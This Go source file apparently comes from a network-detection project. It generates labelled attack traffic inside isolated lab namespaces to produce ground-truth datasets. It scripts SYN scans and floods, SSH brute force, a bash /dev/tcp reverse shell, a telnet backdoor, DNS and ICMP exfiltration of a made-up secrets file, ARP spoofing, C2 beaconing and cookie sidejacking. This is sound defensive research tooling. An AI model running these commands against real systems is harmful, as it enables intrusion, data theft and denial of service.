package lab

import (
	"bytes"
	"context"
	"encoding/base32"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/vigil-edge/vigil/models/dataset"
)

// Attack names accepted in Config.Attacks.
var AttackNames = []string{"nmap", "hping3", "hydra", "beacon", "dnstunnel", "revshell", "icmpexfil", "arpspoof", "telnetd", "hexc2", "sidejack"}

// attack runs one labelled attack from the attacker host within ctx (its
// time slot) and returns the command it ran, or a reason to skip it.
type attackFunc func(ctx context.Context, l *lab, att *host) (cmd string, skipped string, err error)

var attacks = map[string]attackFunc{
	"nmap":      nmapAttack,
	"hping3":    hpingAttack,
	"hydra":     hydraAttack,
	"beacon":    beaconAttack,
	"dnstunnel": dnsTunnelAttack,
	"revshell":  revshellAttack,
	"icmpexfil": icmpExfilAttack,
	"arpspoof":  arpspoofAttack,
	"telnetd":   telnetdAttack,
	"hexc2":     hexC2Attack,
	"sidejack":  sidejackAttack,
}

func runTool(ctx context.Context, att *host, prog string, args ...string) (string, error) {
	path, err := lookPath(prog)
	if err != nil {
		return "", err
	}
	cmd := att.ns.command(ctx, path, args...)
	out, err := cmd.CombinedOutput()
	if ctx.Err() != nil { // the slot ended: a bounded run, not a failure
		return string(out), nil
	}
	if err != nil {
		return string(out), fmt.Errorf("%s: %w: %s", prog, err, lastLine(string(out)))
	}
	return string(out), nil
}

func lastLine(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return lines[len(lines)-1]
}

// nmapAttack: a SYN scan of the web server's first 1000 ports.
func nmapAttack(ctx context.Context, l *lab, att *host) (string, string, error) {
	if _, err := lookPath("nmap"); err != nil {
		return "", "nmap not installed (apt-get install nmap)", nil
	}
	args := []string{"-sS", "-n", "-Pn", "-T4", "--max-retries", "1", "-p", "1-1000", l.hosts[0].addr.String()}
	_, err := runTool(ctx, att, "nmap", args...)
	return "nmap " + strings.Join(args, " "), "", err
}

// hpingAttack: a SYN flood against the web server's port 80, bounded by a
// packet count (and the slot).
func hpingAttack(ctx context.Context, l *lab, att *host) (string, string, error) {
	if _, err := lookPath("hping3"); err != nil {
		return "", "hping3 not installed (apt-get install hping3)", nil
	}
	args := []string{"-S", "--flood", "-c", "20000", "-p", strconv.Itoa(portHTTP), l.hosts[0].addr.String()}
	_, err := runTool(ctx, att, "hping3", args...)
	return "hping3 " + strings.Join(args, " "), "", err
}

// hydraAttack: an SSH password brute force against the infra host's sshd.
func hydraAttack(ctx context.Context, l *lab, att *host) (string, string, error) {
	if _, err := lookPath("hydra"); err != nil {
		return "", "hydra not installed (apt-get install hydra)", nil
	}
	if !l.ssh {
		return "", "no SSH server in the lab (apt-get install openssh-server)", nil
	}
	dir, err := tempDir("hydra")
	if err != nil {
		return "", "", err
	}
	defer os.RemoveAll(dir)
	words := filepath.Join(dir, "passwords.txt")
	var b strings.Builder
	for i := range 200 {
		fmt.Fprintf(&b, "password%d\n", i)
	}
	if err := os.WriteFile(words, []byte(b.String()), 0o600); err != nil {
		return "", "", err
	}
	args := []string{"-l", "admin", "-P", words, "-t", "4", "-I", "-f", "ssh://" + l.hosts[1].addr.String()}
	_, err = runTool(ctx, att, "hydra", args...)
	return "hydra " + strings.Join(args, " "), "", err
}

// beaconAttack: C2-like beaconing, an HTTPS check-in every BeaconEvery with
// 10% jitter, until the slot ends (at most 10,000 check-ins).
func beaconAttack(ctx context.Context, l *lab, att *host) (string, string, error) {
	hc := l.httpClient(att)
	defer hc.CloseIdleConnections()
	rng := rand.New(rand.NewPCG(l.cfg.Seed, 0xbeac))
	every := l.cfg.BeaconEvery
	for i := 0; i < 10_000 && ctx.Err() == nil; i++ {
		_ = get(ctx, hc, fmt.Sprintf("https://%s/c2/checkin?id=%08x&seq=%d", l.hosts[0].addr, rng.Uint32(), i))
		hc.CloseIdleConnections() // a new connection per check-in, as most implants do
		jitter := time.Duration(rng.Int64N(int64(every/5)+1)) - every/10
		if !sleep(ctx, every+jitter) {
			break
		}
	}
	return fmt.Sprintf("HTTPS GET /c2/checkin every %s ±10%% (Go client)", every), "", nil
}

// dnsTunnelAttack: data exfiltrated in DNS queries, long random base32
// labels under t.lab, about 10 queries per second.
func dnsTunnelAttack(ctx context.Context, l *lab, att *host) (string, string, error) {
	rng := rand.New(rand.NewPCG(l.cfg.Seed, 0xd5))
	enc := base32.StdEncoding.WithPadding(base32.NoPadding)
	chunk := make([]byte, 35)
	for i := 0; i < 100_000 && ctx.Err() == nil; i++ {
		for j := range chunk {
			chunk[j] = byte(rng.UintN(256))
		}
		s := strings.ToLower(enc.EncodeToString(chunk)) // 56 chars
		name := fmt.Sprintf("%s.%s.%d.t.lab", s, s[:40], i)
		_ = l.resolve(ctx, att, name, rng)
		if !sleep(ctx, time.Duration(60+rng.IntN(80))*time.Millisecond) {
			break
		}
	}
	return "DNS A queries for <56+40 random base32 chars>.<seq>.t.lab, ~10/s (Go client)", "", nil
}

// portShell is the attacker's listener of the reverse shell.
const portShell = 4444

// shellCommands are what the attacker types into the reverse shell, one
// every few seconds: a look around, as after any exploit.
var shellCommands = []string{"id", "uname -a", "ls /", "cat /etc/hostname", "exit"}

// revshellAttack: the end of an exploit. The web server host (the victim)
// runs a real bash whose standard streams are a TCP connection to the
// attacker's port 4444 (bash's /dev/tcp, the classic one-line reverse
// shell), and the attacker types a few commands into it. The shell runs
// in the victim's namespace only, as root of that namespace (the lab runs
// as root), without rc files, and is killed when the slot ends. The
// truth's attacker is the listener; the packets that serve the shell come
// from the victim.
func revshellAttack(ctx context.Context, l *lab, att *host) (string, string, error) {
	bash, err := lookPath("bash")
	if err != nil {
		return "", "bash not installed", nil
	}
	ln, err := att.ns.listen("tcp", netip.AddrPortFrom(att.addr, portShell).String())
	if err != nil {
		return "", "", fmt.Errorf("listen for the shell: %w", err)
	}
	defer ln.Close()
	victim := l.hosts[0]
	line := fmt.Sprintf("exec %s --norc --noprofile -i >& /dev/tcp/%s/%d 0>&1", bash, att.addr, portShell)
	cmd := victim.ns.command(ctx, bash, "--norc", "--noprofile", "-c", line)
	cmd.Env = []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/nonexistent", "TERM=dumb"}
	if err := cmd.Start(); err != nil {
		return "", "", fmt.Errorf("start the victim's shell: %w", err)
	}
	defer func() { _ = cmd.Wait() }()
	type accepted struct {
		c   net.Conn
		err error
	}
	ch := make(chan accepted, 1)
	go func() { c, err := ln.Accept(); ch <- accepted{c, err} }()
	var conn net.Conn
	select {
	case a := <-ch:
		if a.err != nil {
			return "", "", fmt.Errorf("accept the shell: %w", a.err)
		}
		conn = a.c
	case <-ctx.Done():
		_ = ln.Close()
		return "", "", fmt.Errorf("the victim's shell did not connect: %w", ctx.Err())
	}
	typeInto(ctx, conn, shellCommands, "\n", rand.New(rand.NewPCG(l.cfg.Seed, 0x5e11)))
	return fmt.Sprintf("victim: %s; attacker on %s:%d types: %s", line, att.addr, portShell, strings.Join(shellCommands, "; ")), "", nil
}

// telnetPrompt is the prompt of the backdoor shell telnetdAttack serves
// (fixed, so that the capture does not depend on the machine's bashrc).
const telnetPrompt = "admin@web:~$ "

// telnetCommands are what the attacker types into the backdoor (no id:
// its output is a shell hint of its own, and the test is about the prompt).
var telnetCommands = []string{"uname -a", "ls /", "cat /etc/hostname", "exit"}

// telnetdAttack: a telnet backdoor, as IoT malware leaves one. The web
// server host (the victim) runs busybox's telnetd on port 23 with a bash
// and no login (-l), and the attacker connects and types a few commands
// at its prompt. The shell runs in the victim's namespace only, without
// rc files, and is killed when the slot ends; the truth's attacker is the
// client, the packets that serve the shell come from the victim. Needs a
// busybox with the telnetd applet (Debian: busybox-static).
func telnetdAttack(ctx context.Context, l *lab, att *host) (string, string, error) {
	busybox, skip := busyboxApplet(ctx, "telnetd")
	if skip != "" {
		return "", skip, nil
	}
	bash, err := lookPath("bash")
	if err != nil {
		return "", "bash not installed", nil
	}
	dir, err := tempDir("telnetd")
	if err != nil {
		return "", "", err
	}
	defer os.RemoveAll(dir)
	login := filepath.Join(dir, "shell")
	script := fmt.Sprintf("#!/bin/sh\nexec env -i PS1='%s' HOME=/nonexistent TERM=dumb PATH=/usr/sbin:/usr/bin:/sbin:/bin %s --norc --noprofile -i\n",
		telnetPrompt, bash)
	if err := os.WriteFile(login, []byte(script), 0o700); err != nil {
		return "", "", err
	}
	victim := l.hosts[0]
	srv := victim.ns.command(ctx, busybox, "telnetd", "-F", "-p", "23", "-b", victim.addr.String(), "-l", login)
	if err := srv.Start(); err != nil {
		return "", "", fmt.Errorf("start telnetd: %w", err)
	}
	defer func() { _ = srv.Process.Kill(); _ = srv.Wait() }()
	conn, err := dialListening(ctx, att.ns, netip.AddrPortFrom(victim.addr, 23))
	if err != nil {
		return "", "", fmt.Errorf("connect to telnetd: %w", err)
	}
	typeInto(ctx, conn, telnetCommands, "\r\n", rand.New(rand.NewPCG(l.cfg.Seed, 0x7e1)))
	return fmt.Sprintf("victim: busybox telnetd -F -p 23 -l <bash, prompt %q>; attacker types: %s", telnetPrompt,
		strings.Join(telnetCommands, "; ")), "", nil
}

// dialListening connects from namespace n to the TCP address addr, trying
// again every 100 ms until a server just started there listens (at most 5 s,
// or until ctx ends).
func dialListening(ctx context.Context, n ns, addr netip.AddrPort) (net.Conn, error) {
	var err error
	for range 50 {
		var c net.Conn
		if c, err = n.dial(ctx, "tcp", addr.String()); err == nil {
			return c, nil
		}
		if !sleep(ctx, 100*time.Millisecond) {
			break
		}
	}
	return nil, err
}

// busyboxApplet returns the path of a busybox that has applet, or why the
// attack that needs it is skipped (Debian's busybox has neither telnetd nor
// httpd; busybox-static has both).
func busyboxApplet(ctx context.Context, applet string) (path, skipped string) {
	busybox, err := lookPath("busybox")
	if err != nil {
		return "", "busybox not installed (apt-get install busybox-static)"
	}
	if !HasBusyboxApplet(ctx, busybox, applet) {
		return "", "busybox has no " + applet + " applet (apt-get install busybox-static)"
	}
	return busybox, ""
}

// HasBusyboxApplet reports whether the busybox binary at path has applet
// (the lab's telnetd and hexc2 attacks need busybox-static's).
func HasBusyboxApplet(ctx context.Context, path, applet string) bool {
	out, err := exec.CommandContext(ctx, path, applet, "--help").CombinedOutput()
	return !(err != nil && len(out) == 0 || bytes.Contains(out, []byte("applet not found")))
}

// typeInto is the attacker at a remote shell on conn: it types cmds, each
// followed by eol, one every 1-3 s (rng), reads whatever the shell sends
// (banner, prompts, output; the lab keeps none of it), and returns when the
// shell closes the connection, 5 s after the last command, or when ctx
// ends. It closes conn.
func typeInto(ctx context.Context, conn net.Conn, cmds []string, eol string, rng *rand.Rand) {
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	done := make(chan struct{})
	go func() {
		defer close(done)
		_, _ = io.Copy(io.Discard, conn)
	}()
	for _, c := range cmds {
		if !sleep(ctx, time.Duration(1000+rng.IntN(2000))*time.Millisecond) {
			break
		}
		if _, err := conn.Write([]byte(c + eol)); err != nil {
			break
		}
	}
	select {
	case <-done:
	case <-ctx.Done():
	case <-time.After(5 * time.Second):
	}
}

// exfilSecret is what icmpExfilAttack leaks: a made-up credentials file
// (the lab sends nothing of the machine it runs on), 96 bytes, six chunks
// of 16.
const exfilSecret = "db_host=10.99.0.10\ndb_user=app\ndb_pass=S3cr3t-lab-only!\n" +
	"api_key=3f9a1c0e5b7d4e21a8c6\nrole=admin\n##"

// icmpExfilAttack: data exfiltration over ICMP echo, the "ping -p" trick.
// The web server host (the victim, as after the reverse shell) sends a
// made-up secrets file to the attacker 16 bytes at a time, each chunk as
// iputils ping's fill pattern (-p, in hex) of one 48-byte echo request
// (a 16-byte timestamp, then the chunk twice), about one a second; the
// attacker's kernel answers each with the same payload. Real ping, real
// echoes, nothing beyond the lab's namespaces.
func icmpExfilAttack(ctx context.Context, l *lab, att *host) (string, string, error) {
	ping, err := lookPath("ping")
	if err != nil {
		return "", "ping not installed (apt-get install iputils-ping)", nil
	}
	victim := l.hosts[0]
	rng := rand.New(rand.NewPCG(l.cfg.Seed, 0x1c3f))
	sent := 0
	for off := 0; off+16 <= len(exfilSecret); off += 16 {
		pattern := hex.EncodeToString([]byte(exfilSecret[off : off+16]))
		out, err := victim.ns.command(ctx, ping, "-n", "-c", "1", "-W", "1", "-s", "48", "-p", pattern, att.addr.String()).CombinedOutput()
		if ctx.Err() != nil {
			break // the slot ended
		}
		if err != nil {
			return "", "", fmt.Errorf("ping -p: %w: %s", err, lastLine(string(out)))
		}
		sent++
		if !sleep(ctx, time.Duration(700+rng.IntN(600))*time.Millisecond) {
			break
		}
	}
	return fmt.Sprintf("victim %s: ping -n -c 1 -W 1 -s 48 -p HEX %s, %d chunks of 16 bytes", victim.addr, att.addr, sent), "", nil
}

// arpspoofAttack: dsniff's arpspoof tells the first client, every 2 s, that
// the web server's address is at the attacker's MAC (ARP cache poisoning).
// The attacker does not forward, so the client's traffic to the web server
// goes nowhere while it lasts. Interrupted 6 s before the slot ends,
// arpspoof re-ARPs the client with the server's real MAC (5 replies, 1 s
// apart) and exits, so the client's cache is mended within the span.
func arpspoofAttack(ctx context.Context, l *lab, att *host) (string, string, error) {
	path, err := lookPath("arpspoof")
	if err != nil {
		return "", "arpspoof not installed (apt-get install dsniff)", nil
	}
	if len(l.hosts) < 3 {
		return "", "arpspoof needs a client", nil
	}
	run := ctx
	if dl, ok := ctx.Deadline(); ok {
		if time.Until(dl) < 10*time.Second {
			return "", "arpspoof needs a slot of at least 10 s (a longer --duration or fewer attacks)", nil
		}
		var cancel context.CancelFunc
		run, cancel = context.WithDeadline(ctx, dl.Add(-6*time.Second))
		defer cancel()
	}
	target, server := l.victim("arpspoof"), l.hosts[0].addr
	args := []string{"-i", "eth0", "-t", target.String(), server.String()}
	cmd := att.ns.command(ctx, path, args...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	done := make(chan error, 1)
	if err := cmd.Start(); err != nil {
		return "", "", fmt.Errorf("arpspoof: %w", err)
	}
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done: // exited on its own: it failed
		return "", "", fmt.Errorf("arpspoof exited early: %v: %s", err, lastLine(out.String()))
	case <-run.Done():
	}
	_ = cmd.Process.Signal(os.Interrupt) // re-ARP and exit; ctx's end kills it otherwise
	<-done
	return "arpspoof " + strings.Join(args, " "), "", nil
}

// hexC2Port is the attacker's HTTP port in hexC2Attack.
const hexC2Port = 8080

// hexC2Attack: command and control over plain HTTP with hex-encoded
// ciphertext, as CryptoWall 4 and other families do. The attacker serves
// a PHP-looking page with busybox's httpd, whose CGI script answers every
// check-in with 600 random bytes written as hex digits. The victim (the
// web server host, as after the reverse shell) checks in with curl every
// 4-6 s: a POST of "o=" and 64 random bytes as hex, its body sent in a
// segment of its own after the head ("Expect: 100-continue", which the
// httpd does not answer; CryptoWall's WinINet client sends it the same
// way), at most 1,000 times. Random bytes stand for the ciphertext; the
// lab sends nothing of the machine it runs on.
func hexC2Attack(ctx context.Context, l *lab, att *host) (string, string, error) {
	busybox, skip := busyboxApplet(ctx, "httpd")
	if skip != "" {
		return "", skip, nil
	}
	curl, err := lookPath("curl")
	if err != nil {
		return "", "curl not installed (apt-get install curl)", nil
	}
	dir, err := tempDir("hexc2")
	if err != nil {
		return "", "", err
	}
	defer os.RemoveAll(dir)
	if err := os.MkdirAll(filepath.Join(dir, "cgi-bin"), 0o755); err != nil {
		return "", "", err
	}
	script := fmt.Sprintf("#!%[1]s sh\n[ -n \"$CONTENT_LENGTH\" ] && %[1]s head -c \"$CONTENT_LENGTH\" > /dev/null\n"+
		"printf 'Content-Type: text/html\\r\\n\\r\\n'\n%[1]s od -An -tx1 -N600 /dev/urandom | %[1]s tr -d ' \\n'\n", busybox)
	if err := os.WriteFile(filepath.Join(dir, "cgi-bin", "76N1Lm.php"), []byte(script), 0o755); err != nil {
		return "", "", err
	}
	listen := netip.AddrPortFrom(att.addr, hexC2Port)
	srv := att.ns.command(ctx, busybox, "httpd", "-f", "-p", listen.String(), "-h", dir)
	if err := srv.Start(); err != nil {
		return "", "", fmt.Errorf("start httpd: %w", err)
	}
	defer func() { _ = srv.Process.Kill(); _ = srv.Wait() }()
	// Until the httpd listens (the attacker's own loopback, off the bridge).
	if c, err := dialListening(ctx, att.ns, listen); err == nil {
		_ = c.Close()
	}
	victim := l.hosts[0]
	rng := rand.New(rand.NewPCG(l.cfg.Seed, 0xc2))
	key := make([]byte, 64)
	sent := 0
	for i := 0; i < 1000 && ctx.Err() == nil; i++ {
		for j := range key {
			key[j] = byte(rng.Uint32())
		}
		url := fmt.Sprintf("http://%s/cgi-bin/76N1Lm.php?n=%x", listen, rng.Uint64())
		out, err := victim.ns.command(ctx, curl, curlArgs("-s", "-o", "/dev/null", "-m", "5", "-A", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)",
			"-H", "Expect: 100-continue", "--expect100-timeout", "0.2", "--data", "o="+hex.EncodeToString(key), url)...).CombinedOutput()
		if ctx.Err() != nil {
			break // the slot ended
		}
		if err != nil {
			return "", "", fmt.Errorf("curl: %w: %s", err, lastLine(string(out)))
		}
		sent++
		if !sleep(ctx, time.Duration(4000+rng.IntN(2000))*time.Millisecond) {
			break
		}
	}
	return fmt.Sprintf("attacker: busybox httpd -f -p %s (CGI: 600 random bytes as hex); victim %s: curl --data o=HEX(64 random bytes) every 4-6 s, %d check-ins",
		listen, victim.addr, sent), "", nil
}

// sidejackAttack: a web session taken over with a stolen cookie. The
// victim (the first client) logs into the web server's application over
// plain HTTP and uses its session, a request every 1-3 s; from the fourth
// second of the slot the attacker, who has read the session cookie off the
// network (here: handed over by the lab), sends requests with it too,
// 12 of them every 1-3 s, while the victim goes on. Both use Go's HTTP
// client, so the attacker's requests are the victim's, byte for byte, but
// for the address they come from.
func sidejackAttack(ctx context.Context, l *lab, att *host) (string, string, error) {
	victim := l.hosts[0]
	if len(l.hosts) > 2 {
		victim = l.hosts[2]
	}
	base := fmt.Sprintf("http://%s", netip.AddrPortFrom(l.hosts[0].addr, portHTTP))
	vc, ac := l.httpClient(victim), l.httpClient(att)
	defer vc.CloseIdleConnections()
	defer ac.CloseIdleConnections()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, base+"/login", nil)
	if err != nil {
		return "", "", err
	}
	resp, err := vc.Do(req)
	if err != nil {
		return "", "", fmt.Errorf("login: %w", err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	var cookie *http.Cookie
	for _, c := range resp.Cookies() {
		if c.Name == "SESSIONID" {
			cookie = c
		}
	}
	if cookie == nil {
		return "", "", errors.New("login: no session cookie")
	}
	account := func(c *http.Client) error {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, base+"/account", nil)
		if err != nil {
			return err
		}
		req.AddCookie(cookie)
		resp, err := c.Do(req)
		if err != nil {
			return err
		}
		defer resp.Body.Close()
		_, _ = io.Copy(io.Discard, resp.Body)
		if resp.StatusCode != http.StatusOK {
			return fmt.Errorf("/account: %s", resp.Status)
		}
		return nil
	}
	rng := rand.New(rand.NewPCG(l.cfg.Seed, 0x51de))
	start := time.Now()
	var wg sync.WaitGroup
	var victimErr error
	wg.Add(1)
	go func() { // the victim's session goes on
		defer wg.Done()
		vr := rand.New(rand.NewPCG(l.cfg.Seed, 0x51df))
		for i := 0; i < 100 && ctx.Err() == nil; i++ {
			if err := account(vc); err != nil && ctx.Err() == nil {
				victimErr = err
				return
			}
			if !sleep(ctx, time.Duration(1000+vr.IntN(2000))*time.Millisecond) {
				return
			}
		}
	}()
	sent := 0
	if sleep(ctx, 4*time.Second-time.Since(start)) {
		for i := 0; i < 12 && ctx.Err() == nil; i++ {
			if err := account(ac); err != nil {
				if ctx.Err() != nil {
					break
				}
				wg.Wait()
				return "", "", fmt.Errorf("attacker: %w", err)
			}
			sent++
			if !sleep(ctx, time.Duration(1000+rng.IntN(2000))*time.Millisecond) {
				break
			}
		}
	}
	wg.Wait()
	if victimErr != nil {
		return "", "", fmt.Errorf("victim: %w", victimErr)
	}
	return fmt.Sprintf("victim %s: GET /login, then GET /account with its SESSIONID cookie every 1-3 s; attacker: GET /account with the same cookie every 1-3 s, %d requests",
		victim.addr, sent), "", nil
}

// runAttacks runs the requested attacks one after another, each in its own
// slot of the window [from, to] after start, and records them.
func (l *lab) runAttacks(ctx context.Context, start time.Time, from, to time.Duration) {
	att := l.attacker
	slot := (to - from) / time.Duration(len(l.cfg.Attacks))
	for i, name := range l.cfg.Attacks {
		at := start.Add(from + time.Duration(i)*slot)
		if !sleep(ctx, time.Until(at)) {
			return
		}
		sctx, cancel := context.WithTimeout(ctx, slot*9/10)
		t0 := time.Now()
		cmd, skipped, err := attacks[name](sctx, l, att)
		t1 := time.Now()
		cancel()
		rec := dataset.TruthAttack{Name: name, Command: cmd, Attacker: att.addr.String(), Victim: l.victim(name).String(),
			Start: t0.UTC(), End: t1.UTC(), Skipped: skipped}
		if err != nil {
			rec.Skipped = "failed: " + err.Error()
		}
		if rec.Skipped != "" {
			rec.Start, rec.End = time.Time{}, time.Time{}
			l.log.Warn("attack skipped", "attack", name, "reason", rec.Skipped)
		} else {
			l.log.Info("attack done", "attack", name, "seconds", t1.Sub(t0).Seconds())
		}
		l.mu.Lock()
		l.truth.Attacks = append(l.truth.Attacks, rec)
		l.mu.Unlock()
	}
}

func (l *lab) victim(attack string) netip.Addr {
	switch {
	case attack == "hydra" || attack == "dnstunnel":
		return l.hosts[1].addr
	case (attack == "arpspoof" || attack == "sidejack") && len(l.hosts) > 2: // the first client
		return l.hosts[2].addr
	}
	return l.hosts[0].addr
}
